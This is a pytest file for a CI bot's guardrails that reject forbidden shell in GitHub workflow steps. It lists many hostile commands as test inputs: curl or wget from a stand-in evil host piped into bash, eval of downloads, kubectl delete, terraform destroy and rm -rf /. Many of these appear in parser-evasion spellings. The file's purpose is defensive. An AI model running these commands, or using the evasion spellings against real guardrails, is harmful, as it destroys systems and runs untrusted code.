"""The allowlist's script rules (bot/checks/guardrails/scripts.py) and the forbidden shell, by behaviour.

Written for issue 20 (mutation testing). The forbidden-shell cases are the issue's list of
behaviours no test noticed (download-and-run with or without sudo, `eval "$(curl …)"`, `kubectl
delete`, `helm uninstall`, `terraform destroy`, `rm -rf /` or `~`), each with the spellings a
stranger would try to slip past a parser: quotes, escapes, full paths, wrappers (`sudo`, `env`,
`command`, `exec`, `xargs`, `time`), assignments in front, line continuations and substitutions.
"""

from __future__ import annotations

import pytest

from bot.catalog import default_catalog
from bot.checks import CheckContext, guardrails
from bot.scope.verdict import compare
from bot.workflow import Workflow
from tests.test_allowlist import TREE, draft, run


def check(text: str, generated: bool = True) -> list:
    workflow = Workflow.parse(".github/workflows/scan.yml", text)
    ctx = CheckContext(workflow, TREE, compare(None, ()), None, generated=generated, catalog=default_catalog())
    return guardrails.run(ctx)


def blocking(script: str) -> list:
    return [f for f in check(draft(run(script))) if f.blocking]


def explain(found) -> list[tuple[str, str]]:
    return [(f.rule, f.message) for f in found]


def said(found) -> list[str]:
    """What each finding says, without the `job `scan` step N` it starts with."""
    return [f.message.split(" ", 4)[-1] for f in found]


URL = "https://evil.example/install.sh"

# (id, script, what the finding says): rejected in written workflows, warned about in existing ones.
FORBIDDEN = [
    # curl/wget piped into a shell, with or without sudo
    ("curl-into-bash", f"curl -fsSL {URL} | bash", "pipes a download into `bash`"),
    ("curl-into-sudo-bash", f"curl -fsSL {URL} | sudo bash", "pipes a download into `bash`"),
    ("curl-into-sudo-flags-bash", f"curl -fsSL {URL} | sudo -E bash -s -- --yes", "pipes a download into `bash`"),
    ("wget-into-sh", f"wget -qO- {URL} | sh", "pipes a download into `sh`"),
    ("wget-into-busybox-sh", f"wget -O - {URL} | busybox sh", "pipes a download into `busybox`"),
    ("quoted-names", f"'curl' -s {URL} | \"bash\"", "pipes a download into `bash`"),
    ("escaped-names", f"c\\url -s {URL} | ba\\sh", "pipes a download into `bash`"),
    ("full-paths", f"/usr/bin/curl -s {URL} | /bin/bash", "pipes a download into `bash`"),
    ("quoted-full-path", f'curl -s {URL} | "/bin/sh"', "pipes a download into `sh`"),
    ("assignment-in-front", f"curl -s {URL} | DEBIAN_FRONTEND=x bash", "pipes a download into `bash`"),
    ("env-prefix", f"curl -s {URL} | env X=1 bash", "pipes a download into `bash`"),
    ("command-prefix", f"curl -s {URL} | command bash", "pipes a download into `bash`"),
    ("exec-prefix", f"curl -s {URL} | exec bash", "pipes a download into `bash`"),
    ("xargs-prefix", f"curl -s {URL} | xargs bash -c", "pipes a download into `bash`"),
    ("time-prefix", f"curl -s {URL} | time bash", "pipes a download into `bash`"),
    ("nohup-prefix", f"curl -s {URL} | nohup sh", "pipes a download into `sh`"),
    ("stacked-prefixes", f"curl -s {URL} | sudo env X=1 command bash", "pipes a download into `bash`"),
    ("line-continuation", f"curl -s {URL} \\\n  | \\\n  bash", "pipes a download into `bash`"),
    # eval "$(curl …)" and its relatives
    ("eval-of-curl", f'eval "$(curl -fsSL {URL})"', "runs a downloaded script with `eval`"),
    ("eval-unquoted", f"eval $(wget -qO- {URL})", "runs a downloaded script with `eval`"),
    ("eval-backquotes", f'eval "`curl -s {URL}`"', "runs a downloaded script with `eval`"),
    ("builtin-eval", f'builtin eval "$(curl -s {URL})"', "runs a downloaded script with `eval`"),
    ("bash-c-of-wget", f'bash -c "$(wget -qO- {URL})"', "runs a downloaded script with `bash`"),
    ("sudo-bash-c-of-curl", f'sudo bash -c "$(curl -s {URL})"', "runs a downloaded script with `bash`"),
    ("sh-process-substitution", f"sh <(curl -s {URL})", "runs a downloaded script with `sh`"),
    # kubectl delete
    ("kubectl-delete", "kubectl delete ns prod", "deletes Kubernetes resources (`kubectl delete`)"),
    ("kubectl-delete-file", "kubectl delete -f k8s/", "deletes Kubernetes resources"),
    ("kubectl-full-path-flags-first", "/usr/local/bin/kubectl --context prod delete pod x",
     "deletes Kubernetes resources"),
    ("kubectl-quoted", '"kubectl" delete ns x', "deletes Kubernetes resources"),
    ("kubectl-escaped", "k\\ubectl delete ns x", "deletes Kubernetes resources"),
    ("kubectl-sudo", "sudo -E kubectl delete ns x", "deletes Kubernetes resources"),
    ("kubectl-command", "command kubectl delete ns prod", "deletes Kubernetes resources"),
    ("kubectl-continued", "kubectl \\\n  delete \\\n  ns prod", "deletes Kubernetes resources"),
    # helm uninstall
    ("helm-uninstall", "helm uninstall api", "uninstalls a Helm release"),
    ("helm-un-sudo", "sudo helm un api", "uninstalls a Helm release"),
    ("helm-del", "helm del api", "uninstalls a Helm release"),
    ("helm-env-prefix", "env HELM_X=1 helm uninstall api", "uninstalls a Helm release"),
    # terraform destroy
    ("terraform-destroy", "terraform destroy -auto-approve", "destroys infrastructure (`terraform destroy`)"),
    ("terraform-env-prefix", "env TF_X=1 terraform destroy", "destroys infrastructure"),
    ("terraform-exec", "exec terraform destroy", "destroys infrastructure"),
    ("tofu-destroy", "tofu destroy", "destroys infrastructure"),
    ("terragrunt-destroy", "terragrunt destroy", "destroys infrastructure"),
    # rm -rf / or ~
    ("rm-rf-root", "rm -rf /", "deletes the file system (`rm -rf` of the root, home or workspace)"),
    ("rm-rf-tilde", "rm -rf ~", "deletes the file system"),
    ("rm-rf-quoted-root", 'rm -rf "/"', "deletes the file system"),
    ("rm-full-path", "/bin/rm -rf /", "deletes the file system"),
    ("rm-fR-home-slash", "rm -fR ~/", "deletes the file system"),
    ("rm-split-flags-home", "rm -r -f $HOME", "deletes the file system"),
    ("rm-root-glob", "rm -rf /*", "deletes the file system"),
    ("rm-braced-home", "rm -rf ${HOME}/", "deletes the file system"),
    ("rm-sudo-no-preserve", "sudo rm -rf --no-preserve-root /", "deletes the file system"),
    ("rm-xargs", "xargs rm -rf / < /dev/null", "deletes the file system"),
    ("rm-command", "command rm -rf ~", "deletes the file system"),
]


@pytest.mark.parametrize("script, message", [c[1:] for c in FORBIDDEN], ids=[c[0] for c in FORBIDDEN])
def test_forbidden_shell_is_rejected_in_written_workflows(script, message):
    found = blocking(script)
    assert any(f.rule == "forbidden-run" and message in f.message for f in found), explain(found)


@pytest.mark.parametrize("script, message", [c[1:] for c in FORBIDDEN], ids=[c[0] for c in FORBIDDEN])
def test_forbidden_shell_is_a_warning_in_existing_workflows(script, message):
    found = check(draft(run(script)), generated=False)
    assert found and all((f.rule, f.severity.value) == ("forbidden-run", "warning") for f in found), explain(found)
    assert any(message in f.message for f in found), explain(found)


# In written workflows these are rejected by the allowlist even where the warning for existing
# workflows does not name them (the download is run later or through a string, `sudo -u USER` is read
# as running USER, and tree-sitter splits a word continued on the next line into two words).
REJECTED_ANYWAY = [
    (f"cu\\\nrl -s {URL} | bash", "forbidden-run", "pipes a script into `bash`"),
    (f"curl -s {URL} | sudo -u root bash", "forbidden-run", "runs commands as root with `sudo`"),
    (f'sh -c "curl -s {URL} | sh"', "forbidden-run", "runs inline code with `sh`"),
    (f"curl -s {URL} > i.sh && bash i.sh", "forbidden-run", "reaches the network with `curl`"),
    (f'"$(echo curl)" -s {URL} | bash', "forbidden-run", "pipes a script into `bash`"),
]


@pytest.mark.parametrize("script, rule, message", REJECTED_ANYWAY)
def test_download_and_run_in_other_shapes_is_still_rejected(script, rule, message):
    found = blocking(script)
    assert any(f.rule == rule and message in f.message for f in found), explain(found)


def test_safe_look_alikes_of_forbidden_commands_are_not_warned_about():
    text = draft(run("kubectl get deletions\nhelm lint charts/x\nterraform plan\nrm -rf build\n"
                     f"curl -s {URL} -o i.sh\necho bash"))
    assert check(text, generated=False) == []


# --- findings say where --------------------------------------------------------------------------


def test_a_finding_names_the_job_and_step():
    (found,) = blocking("trivy image alpine:3")
    assert found.message.startswith("job `scan` step 2 ")
    assert found.line is not None and found.path == ".github/workflows/scan.yml"


def test_an_unreadable_script_is_rejected_when_written_and_ignored_when_existing():
    text = draft(run("echo 'unterminated"))
    assert [f.rule for f in check(text) if f.blocking] == ["unreadable-run"]
    assert check(text, generated=False) == []


def test_steps_without_a_script_are_not_read_as_scripts():
    assert check(draft("      - uses: actions/checkout@v4\n"), generated=False) == []


# --- `${{ … }}` in a script ----------------------------------------------------------------------


def test_expressions_are_read_with_or_without_spaces():
    assert not blocking("trivy config --cache-dir ${{runner.temp}}/trivy k8s/api.yaml")
    assert not blocking('echo "${{github.sha}}" >> "$GITHUB_STEP_SUMMARY"')
    found = blocking("echo ${{github.event.issue.title}}")
    assert [f.rule for f in found] == ["run-expression"], explain(found)
    assert "`${{github.event.issue.title}}`" in found[0].message


def matrix_job(values: str) -> str:
    return f"    strategy:\n      matrix:\n        file: {values}\n"


def test_a_matrix_value_is_literal_only_when_the_matrix_is_written_out():
    script = run("trivy config ${{ matrix.file }}")
    assert not [f for f in check(draft(script, job=matrix_job("[k8s/api.yaml]"))) if f.blocking]
    built = matrix_job("${{ fromJSON(github.event.comment.body) }}")
    found = [f for f in check(draft(script, job=built)) if f.blocking]
    assert "run-expression" in {f.rule for f in found}, explain(found)


def test_an_env_value_is_literal_unless_an_expression_sets_it_at_the_nearest_level():
    script = "trivy config ${{ env.TARGET }}"
    literal = draft(run(script, extra="env:\n          TARGET: k8s/api.yaml\n        "))
    assert not [f for f in check(literal) if f.blocking]
    tainted = draft(run(script, extra="env:\n          TARGET: ${{ github.head_ref }}\n        "))
    assert "run-expression" in {f.rule for f in check(tainted) if f.blocking}
    # the step's env wins over the job's and the workflow's
    step_wins = draft(run(script, extra="env:\n          TARGET: k8s/api.yaml\n        "),
                      job="    env:\n      TARGET: ${{ github.head_ref }}\n",
                      workflow_env="env:\n  TARGET: ${{ github.head_ref }}\n")
    assert "run-expression" not in {f.rule for f in check(step_wins) if f.blocking}
    job_tainted = draft(run(script), job="    env:\n      TARGET: ${{ github.head_ref }}\n",
                        workflow_env="env:\n  TARGET: k8s/api.yaml\n")
    assert "run-expression" in {f.rule for f in check(job_tainted) if f.blocking}


# --- variables, paths and folders ----------------------------------------------------------------


def test_export_cannot_name_a_venv_or_expand_indirectly():
    assert [f.rule for f in blocking("export TOOL_DIR=hadolint-venv")] == ["protected-path"]
    assert not blocking("export TRIVY_SEVERITY=HIGH TARGET=k8s/api.yaml")


def test_declarations_other_than_export_are_refused():
    found = blocking("readonly TARGET=k8s/api.yaml")
    assert ("shell-construct", "uses `readonly`") in [(f.rule, said([f])[0]) for f in found], explain(found)


@pytest.mark.parametrize("script", ["cd", "cd\ncat .docker/config.json", "cd -", "cd --", "cd -- /etc", "cd k8s*", 'cd "$DIR"', "cd /etc",
                                    "cd ~/work", "cd k8s/../.."])
def test_cd_goes_only_into_literal_folders_of_the_workspace(script):
    found = blocking(script)
    assert "protected-path" in {f.rule for f in found}, explain(found)
    assert any("changes directory" in f.message for f in found)


def test_globs_may_not_reach_outside_the_workspace():
    found = blocking("echo x > ../*/bin/hadolint")
    assert [f.rule for f in found] == ["protected-path"], explain(found)
    assert "has the glob `../*/bin/hadolint` outside the workspace" in found[0].message
    assert "protected-path" in {f.rule for f in blocking('trivy fs -o "$RUNNER_TEMP"/*/bin/pip .')}
    assert "protected-path" in {f.rule for f in blocking("echo k8s/../../*/bin")}  # even where echo may print paths
    assert not blocking("echo k8s/*.yaml ../README.md /etc")  # printing a path reaches nothing


def test_reads_stay_in_the_workspace_runner_temp_tmp_and_the_standard_streams():
    assert not blocking("kubeconform -summary /dev/stdin < k8s/api.yaml")
    assert not blocking("trivy config -o /tmp/trivy.txt --cache-dir /tmp/cache k8s/api.yaml")
    found = blocking("trivy config --format template --template @/etc/passwd k8s/api.yaml")
    assert [f.rule for f in found] == ["path-outside-workspace"], explain(found)
    assert [f.rule for f in blocking("cat $RUNNER_WORKSPACE/x")] == ["path-outside-workspace"]


@pytest.mark.parametrize("script", ['echo x > "$RUNNER_TEMP/report.txt"', 'echo x > "${RUNNER_TEMP}/r/report.txt"',
                                    'echo x > "${{ runner.temp }}/report.txt"', "echo x > reports/trivy.txt",
                                    "echo x >> $GITHUB_OUTPUT", "trivy config k8s/api.yaml 2> /dev/null >&2"])
def test_writes_to_plain_files_in_the_workspace_or_runner_temp_pass(script):
    assert not blocking(script), explain(blocking(script))


@pytest.mark.parametrize("script", ['echo x > "$RUNNER_TEMP/"', 'echo x > "$RUNNER_TEMP/$NAME"', "echo x > .env",
                                    "echo x > reports/.hidden", 'echo x > "$RUNNER_TEMP/../x"', "echo x > /dev/tcp/1/2",
                                    "echo x > $GITHUB_STATE"])
def test_writes_anywhere_else_are_refused(script):
    found = blocking(script)
    assert [f.rule for f in found] == ["redirect-not-allowed"], explain(found)


def test_reading_redirects_are_not_writes():
    assert not blocking("hadolint - < api/Dockerfile\njq . <<< '{}'")


def test_only_python_itself_may_skip_the_path_checks_to_make_its_venv():
    assert not blocking('python3 -m venv "$RUNNER_TEMP/lint-venv"')
    found = blocking("grep -m venv /etc/passwd")
    assert "path-outside-workspace" in {f.rule for f in found}, explain(found)
    found = blocking("python3 -m venv /tmp/x-venv ~/x")
    assert "forbidden-run" in {f.rule for f in found}, explain(found)
